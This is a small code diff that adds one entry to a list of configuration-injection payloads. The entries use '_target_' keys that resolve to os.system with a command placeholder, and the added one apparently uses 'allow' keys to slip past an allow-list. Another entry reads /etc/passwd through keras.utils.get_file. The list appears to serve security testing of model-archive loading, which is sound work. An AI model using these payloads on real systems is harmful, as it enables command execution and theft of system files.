@@ -26,6 +26,7 @@ VIA = "bf_models.saving.archive.os.system"
 CHANGES = [
     {"body": {"_target_": VIA, "command": "{command}"}},
     {"head": {"_target_": "os.system", "command": "{command}"}, "allow": ["os", "posix"]},
+    {"body": {"_target_": "os.system", "command": "{command}"}, "allow/os": 1, "allow/posix": 1},
     {"loss": {"_target_": VIA, "command": "{command}"}},
     {"loss": [{"name": "ce"}, {"name": VIA, "command": "{command}"}]},
     {"optimizer": {"_target_": "keras.utils.get_file", "origin": "file:///etc/passwd"}},
